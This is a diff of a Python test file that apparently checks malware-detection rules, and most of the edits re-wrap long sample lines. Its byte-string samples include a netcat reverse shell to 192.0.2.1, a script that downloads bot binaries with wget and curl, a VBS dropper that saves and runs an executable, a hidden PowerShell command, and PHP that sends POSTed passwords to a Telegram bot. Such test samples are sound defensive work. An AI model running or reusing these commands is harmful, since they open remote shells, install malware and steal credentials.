@@ -33,12 +33,14 @@ ENCODED = base64.b64encode(b"x" * 300)
         ("Reverse_Shell", b"nc 192.0.2.1 4444 -e /bin/sh"),
         (
             "Windows_Script_Drops_A_Program",
-            b'Set s=CreateObject("WScript.Shell"):Set x=CreateObject("MSXML2.XMLHTTP"):Set a=CreateObject("ADODB.Stream")\r\n'
+            b'Set s=CreateObject("WScript.Shell"):Set x=CreateObject("MSXML2.XMLHTTP")\r\n'
+            b'Set a=CreateObject("ADODB.Stream")\r\n'
             b'a.SaveToFile "x.exe"\r\ns.Run "x.exe"',
         ),
         (
             "Shell_Fetches_A_Bot",
-            b"#!/bin/sh\nwget http://192.0.2.1/b.mips\ncurl http://192.0.2.1/b.arm7\nwget http://192.0.2.1/b.x86\nchmod 777 b.*\nrm -rf b.*\n",
+            b"#!/bin/sh\nwget http://192.0.2.1/b.mips\ncurl http://192.0.2.1/b.arm7\nwget http://192.0.2.1/b.x86\n"
+            b"chmod 777 b.*\nrm -rf b.*\n",
         ),
         (
             "Ransom_Note",
@@ -54,7 +56,8 @@ ENCODED = base64.b64encode(b"x" * 300)
         ("Shortcut_Starts_A_Script", b"L\0\0\0\x01\x14\x02\0" + b"powershell -w hidden http://a.example".ljust(200)),
         (
             "Phishing_Kit_Page",
-            b"<?php $m=$_POST['password'].$_SERVER['REMOTE_ADDR']; file_get_contents('https://api.telegram.org/bot1/sendMessage?text='.$m);",
+            b"<?php $m=$_POST['password'].$_SERVER['REMOTE_ADDR'];"
+            b"file_get_contents('https://api.telegram.org/bot1/sendMessage?text='.$m);",
         ),
     ],
 )
@@ -70,7 +73,7 @@ def test_our_rules_find_what_they_describe(rule: str, data: bytes) -> None:
     "data",
     [
         b"<?php echo htmlspecialchars($_GET['name']); mail('me@a.example', 'hello', $_POST['text']); ?>",
-        b"<?php if (password_verify($_POST['password'], $hash)) { $_SESSION['user'] = 1; log($_SERVER['REMOTE_ADDR']); } ?>",
+        b"<?php if (password_verify($_POST['password'], $hash)) { $ok = 1; } log($_SERVER['REMOTE_ADDR']); ?>",
         b"Invoke-WebRequest https://a.example/data.csv -OutFile data.csv",
         b"#!/bin/sh\ncurl -fsSL https://a.example/install.sh -o install.sh\nchmod +x install.sh\n",
         b"How ransomware works: criminals encrypt files and ask for bitcoin. Keep backups.",
